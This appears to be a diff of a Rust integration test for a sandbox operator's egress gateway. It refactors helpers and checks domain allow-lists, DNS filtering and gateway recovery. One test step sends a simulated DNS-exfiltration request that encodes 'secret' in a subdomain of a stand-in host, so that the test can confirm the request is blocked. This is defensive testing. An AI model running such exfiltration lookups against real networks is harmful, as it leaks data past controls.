@@ -6,13 +6,13 @@
 //! Needs a running engine and the base image (`tests/setup/docker.sh`,
 //! `tests/setup/base-image.sh`).
 
-mod harness;
 #[path = "egress/fakenet.rs"]
 mod fakenet;
+mod harness;
 
 use std::time::Duration;
 
-use fakenet::FakeNet;
+use fakenet::{FakeNet, GatewayGuard, gateway_settings};
 use harness::docker::{TEST_LABEL, TestEnv, base_image, engine};
 use harness::{unique, wait_for};
 use sandbox_operator::provider::docker::{
@@ -22,44 +22,6 @@ use sandbox_operator::provider::{EgressState, ErrorKind, ExecRequest, Provider};
 
 const WAIT: Duration = Duration::from_secs(30);
 
-/// The gateway's settings for a test: the test binary's sibling operator binary, the fake
-/// internet as outside network and upstream DNS.
-pub fn gateway_settings(net: &FakeNet, name: &str, check_secs: u64) -> EgressGatewaySettings {
-    EgressGatewaySettings {
-        host_binary: Some(env!("CARGO_BIN_EXE_sandbox-operator").to_string()),
-        name: Some(name.to_string()),
-        network: net.network.clone(),
-        upstream_dns: Some(net.dns.to_string()),
-        check_interval_seconds: check_secs,
-        ..EgressGatewaySettings::with_image(base_image())
-    }
-}
-
-/// Removes a gateway's container, network and volume (they carry no instance label).
-struct GatewayGuard(String);
-
-impl Drop for GatewayGuard {
-    fn drop(&mut self) {
-        let run = |args: &[&str]| {
-            let _ = std::process::Command::new("docker").args(args).output();
-        };
-        run(&["rm", "-f", &self.0]);
-        // The engine may still be detaching the last endpoints: a few tries.
-        for _ in 0..10 {
-            let removed = std::process::Command::new("docker")
-                .args(["network", "rm", &format!("{}-net", self.0)])
-                .output()
-                .map(|o| o.status.success() || String::from_utf8_lossy(&o.stderr).contains("not found"))
-                .unwrap_or(true);
-            if removed {
-                break;
-            }
-            std::thread::sleep(std::time::Duration::from_millis(300));
-        }
-        run(&["volume", "rm", "-f", &format!("{}-policy", self.0)]);
-    }
-}
-
 /// `curl` in the sandbox: (exit code, stdout).
 async fn curl(p: &DockerProvider, id: &str, args: &str) -> (i64, String) {
     let script = format!("curl -s -m 5 {args}");
@@ -67,7 +29,10 @@ async fn curl(p: &DockerProvider, id: &str, args: &str) -> (i64, String) {
         .exec(id, &ExecRequest::shell(script, Duration::from_secs(20)))
         .await
         .expect("exec curl");
-    (out.exit_code, String::from_utf8_lossy(&out.stdout).into_owned())
+    (
+        out.exit_code,
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+    )
 }
 
 async fn reaches(p: &DockerProvider, id: &str, url: &str, host: &str) -> Result<(), String> {
@@ -106,7 +71,7 @@ async fn allow_lists_are_enforced_by_the_gateway_and_replaced_in_place() {
         "docker-egress",
         DockerSettings {
             default_image: Some(base_image()),
-            egress: Some(gateway_settings(&net, &gw, 8)),
+            egress: Some(gateway_settings(&net, &gw, base_image(), 8)),
             ..Default::default()
         },
     )
@@ -127,37 +92,86 @@ async fn allow_lists_are_enforced_by_the_gateway_and_replaced_in_place() {
     p.start(&b).await.unwrap();
 
     // The gateway is ours but not the sweeper's: labelled as a component, no instance label.
-    let labels = engine().await.inspect_container(&gw, None).await.unwrap().config.unwrap().labels.unwrap();
-    assert_eq!(labels.get(COMPONENT_LABEL).map(String::as_str), Some(COMPONENT));
+    let labels = engine()
+        .await
+        .inspect_container(&gw, None)
+        .await
+        .unwrap()
+        .config
+        .unwrap()
+        .labels
+        .unwrap();
+    assert_eq!(
+        labels.get(COMPONENT_LABEL).map(String::as_str),
+        Some(COMPONENT)
+    );
     assert!(!labels.contains_key("sandboxes.dev/managed-by"));
 
     // Allowed names over HTTP and TLS; wildcards are subdomains only.
-    wait_for("allowed.test over HTTP from a", WAIT, || reaches(&p, &a, "http://allowed.test/", "allowed.test")).await;
-    reaches(&p, &a, "https://allowed.test/", "allowed.test").await.unwrap();
-    reaches(&p, &a, "http://x.wild.test/", "x.wild.test").await.unwrap();
-    assert_eq!(refused(&p, &a, "http://wild.test/").await.unwrap(), 6, "*.x is not x");
-    wait_for("other.test over TLS from b", WAIT, || reaches(&p, &b, "https://other.test/", "other.test")).await;
+    wait_for("allowed.test over HTTP from a", WAIT, || {
+        reaches(&p, &a, "http://allowed.test/", "allowed.test")
+    })
+    .await;
+    reaches(&p, &a, "https://allowed.test/", "allowed.test")
+        .await
+        .unwrap();
+    reaches(&p, &a, "http://x.wild.test/", "x.wild.test")
+        .await
+        .unwrap();
+    assert_eq!(
+        refused(&p, &a, "http://wild.test/").await.unwrap(),
+        6,
+        "*.x is not x"
+    );
+    wait_for("other.test over TLS from b", WAIT, || {
+        reaches(&p, &b, "https://other.test/", "other.test")
+    })
+    .await;
 
     // Unlisted names do not resolve; raw IPs and other ports do not connect.
     assert_eq!(refused(&p, &a, "http://other.test/").await.unwrap(), 6);
     assert_eq!(refused(&p, &b, "https://allowed.test/").await.unwrap(), 6);
-    let raw = refused(&p, &a, &format!("http://{}/", net.host)).await.unwrap();
+    let raw = refused(&p, &a, &format!("http://{}/", net.host))
+        .await
+        .unwrap();
     assert!(matches!(raw, 7 | 28), "raw IP: curl exit {raw}");
-    let gw_ip = env.sh(&a, "getent hosts allowed.test | cut -d' ' -f1").await.trim().to_string();
-    let port = refused(&p, &a, &format!("http://{gw_ip}:8080/")).await.unwrap();
+    let gw_ip = env
+        .sh(&a, "getent hosts allowed.test | cut -d' ' -f1")
+        .await
+        .trim()
+        .to_string();
+    let port = refused(&p, &a, &format!("http://{gw_ip}:8080/"))
+        .await
+        .unwrap();
     assert!(matches!(port, 7 | 28), "another port: curl exit {port}");
     // Straight to the gateway with an unlisted Host: refused with a 403 that says why.
     let (code, body) = curl(&p, &a, &format!("-H 'Host: other.test' http://{gw_ip}/")).await;
     assert_eq!(code, 0);
-    assert!(body.contains("not on this sandbox's egress allow-list"), "{body}");
+    assert!(
+        body.contains("not on this sandbox's egress allow-list"),
+        "{body}"
+    );
 
     // DNS exfiltration: an unlisted name never reaches the upstream.
     let _ = curl(&p, &a, "http://c2VjcmV0.exfil.test/").await;
-    let _ = env.sh(&a, "getent hosts c2VjcmV0-2.exfil.test || true").await;
+    let _ = env
+        .sh(&a, "getent hosts c2VjcmV0-2.exfil.test || true")
+        .await;
     let asked = net.asked();
-    assert!(!asked.iter().any(|q| q.contains("exfil")), "the upstream saw {asked:?}");
-    assert!(!asked.iter().any(|q| q == "wild.test"), "the upstream saw {asked:?}");
-    assert!(asked.iter().all(|q| ["allowed.test", "other.test", "x.wild.test"].contains(&q.as_str())), "{asked:?}");
+    assert!(
+        !asked.iter().any(|q| q.contains("exfil")),
+        "the upstream saw {asked:?}"
+    );
+    assert!(
+        !asked.iter().any(|q| q == "wild.test"),
+        "the upstream saw {asked:?}"
+    );
+    assert!(
+        asked
+            .iter()
+            .all(|q| ["allowed.test", "other.test", "x.wild.test"].contains(&q.as_str())),
+        "{asked:?}"
+    );
 
     // The verdict is observed inside the sandbox.
     let v = p.egress().unwrap().egress_verdict(&a).await.unwrap();
@@ -165,22 +179,50 @@ async fn allow_lists_are_enforced_by_the_gateway_and_replaced_in_place() {
 
     // A changed list applies in place, on the same container.
     let id_before = engine().await.inspect_container(&a, None).await.unwrap().id;
-    p.egress_policy().unwrap().set_allowed_domains(&a, Some(&["other.test".to_string()])).await.unwrap();
-    wait_for("other.test from a after the change", WAIT, || reaches(&p, &a, "http://other.test/", "other.test")).await;
-    wait_for("allowed.test refused from a after the change", WAIT, || refused(&p, &a, "http://allowed.test/")).await;
-    assert_eq!(engine().await.inspect_container(&a, None).await.unwrap().id, id_before);
+    p.egress_policy()
+        .unwrap()
+        .set_allowed_domains(&a, Some(&["other.test".to_string()]))
+        .await
+        .unwrap();
+    wait_for("other.test from a after the change", WAIT, || {
+        reaches(&p, &a, "http://other.test/", "other.test")
+    })
+    .await;
+    wait_for("allowed.test refused from a after the change", WAIT, || {
+        refused(&p, &a, "http://allowed.test/")
+    })
+    .await;
+    assert_eq!(
+        engine().await.inspect_container(&a, None).await.unwrap().id,
+        id_before
+    );
 
     // Also after a sleep: the list set on wake is the one that holds.
     p.sleep(&a).await.unwrap();
     p.wake(&a).await.unwrap();
-    p.egress_policy().unwrap().set_allowed_domains(&a, Some(&["allowed.test".to_string()])).await.unwrap();
-    wait_for("allowed.test from a after wake", WAIT, || reaches(&p, &a, "http://allowed.test/", "allowed.test")).await;
+    p.egress_policy()
+        .unwrap()
+        .set_allowed_domains(&a, Some(&["allowed.test".to_string()]))
+        .await
+        .unwrap();
+    wait_for("allowed.test from a after wake", WAIT, || {
+        reaches(&p, &a, "http://allowed.test/", "allowed.test")
+    })
+    .await;
 
     // Placement cannot change in place: the provider says so (the controller recreates).
-    let err = p.egress_policy().unwrap().set_allowed_domains(&a, None).await.unwrap_err();
+    let err = p
+        .egress_policy()
+        .unwrap()
+        .set_allowed_domains(&a, None)
+        .await
+        .unwrap_err();
     assert!(err.is(ErrorKind::Conflict), "{err}");
     assert_eq!(p.egress_policy().unwrap().placement(None), Some("open"));
-    assert_eq!(p.egress_policy().unwrap().placement(Some(&[])), Some("none"));
+    assert_eq!(
+        p.egress_policy().unwrap().placement(Some(&[])),
+        Some("none")
+    );
 
     // Gateway down: no egress at all, until the operator's supervisor restores it.
     // The supervisor may restore it quickly: kill again until one curl ran wholly while
@@ -190,7 +232,11 @@ async fn allow_lists_are_enforced_by_the_gateway_and_replaced_in_place() {
     for _ in 0..5 {
         docker.kill_container(&gw, None).await.unwrap();
         wait_for("the gateway to stop", WAIT, || async {
-            if gateway_running(&gw).await { Err("still running".to_string()) } else { Ok(()) }
+            if gateway_running(&gw).await {
+                Err("still running".to_string())
+            } else {
+                Ok(())
+            }
         })
         .await;
         let (code, _) = curl(&p, &a, "-m 3 http://allowed.test/").await;
@@ -200,10 +246,15 @@ async fn allow_lists_are_enforced_by_the_gateway_and_replaced_in_place() {
             break;
         }
     }
-    assert!(seen_down, "the gateway came back before it could be observed down");
-    wait_for("allowed.test again once the gateway is restored", Duration::from_secs(60), || {
-        reaches(&p, &a, "http://allowed.test/", "allowed.test")
-    })
+    assert!(
+        seen_down,
+        "the gateway came back before it could be observed down"
+    );
+    wait_for(
+        "allowed.test again once the gateway is restored",
+        Duration::from_secs(60),
+        || reaches(&p, &a, "http://allowed.test/", "allowed.test"),
+    )
     .await;
 
     // Destroy removes the sandbox's policy from the gateway.
@@ -240,5 +291,8 @@ async fn bad_entries_are_refused_naming_the_field() {
     req.allowed_domains = Some(vec!["ok.test".into(), "10.0.0.1".into()]);
     let err = p.create(&req).await.unwrap_err();
     assert!(err.is(ErrorKind::Invalid), "{err}");
-    assert!(err.message().contains("spec.egress.allowedDomains[1]"), "{err}");
+    assert!(
+        err.message().contains("spec.egress.allowedDomains[1]"),
+        "{err}"
+    );
 }
